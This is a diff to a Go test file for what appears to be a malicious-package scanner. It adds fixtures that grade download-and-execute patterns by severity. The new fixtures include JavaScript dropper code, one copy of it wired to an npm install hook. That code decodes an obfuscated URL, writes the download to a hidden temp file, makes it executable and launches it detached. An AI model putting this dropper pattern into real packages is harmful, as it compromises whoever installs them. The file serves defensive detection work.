@@ -25,6 +25,12 @@ func TestDownloadExecute(t *testing.T) {
 		// a test runner forking its workers, with a docs link in a
 		// warning; the same host given to a request is a download
 		{"docs_link_in_message", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),cp=require("child_process"); const r = await fetch(reportUrl); fs.writeFileSync(out, await r.text()); warn("Consider running slow files in parallel. See: https://docs.example.invalid/test-parallel"); cp.fork(entry, {detached: false, stdio: "ignore", cwd: os.tmpdir()})`}, finding.SeverityLow},
+		// a URL built at run time, fetched into a temp directory and
+		// started detached: at install a dropper, in a library low
+		{"install_hidden_url_detached", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node fetch.js"}`),
+			"fetch.js": `const fs=require("fs"),os=require("os"),path=require("path"),https=require("https"),{spawn}=require("child_process"); const u=String.fromCharCode(...codes); const p=path.join(os.tmpdir(),".cache-bin"); https.get(u, r => r.pipe(fs.createWriteStream(p)).on("finish", () => { fs.chmodSync(p, 0o755); spawn(p, [], {detached: true, stdio: "ignore"}).unref() }))`}, finding.SeverityCritical},
+		{"library_hidden_url_detached", map[string]string{"package.json": rt.Pkg(`"main":"fetch.js"`),
+			"fetch.js": `const fs=require("fs"),os=require("os"),path=require("path"),https=require("https"),{spawn}=require("child_process"); const u=String.fromCharCode(...codes); const p=path.join(os.tmpdir(),".cache-bin"); https.get(u, r => r.pipe(fs.createWriteStream(p)).on("finish", () => { fs.chmodSync(p, 0o755); spawn(p, [], {detached: true, stdio: "ignore"}).unref() }))`}, finding.SeverityLow},
 		{"docs_host_requested", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),cp=require("child_process"); const r = await fetch("https://docs.example.invalid/tool"); fs.writeFileSync(out, await r.text()); warn("See: https://docs.example.invalid/tool"); cp.fork(entry, {detached: true, stdio: "ignore", cwd: os.tmpdir()})`}, finding.SeverityHigh},
 		// a vendored tool's constants in a large file: the installer's URL
 		// is never requested
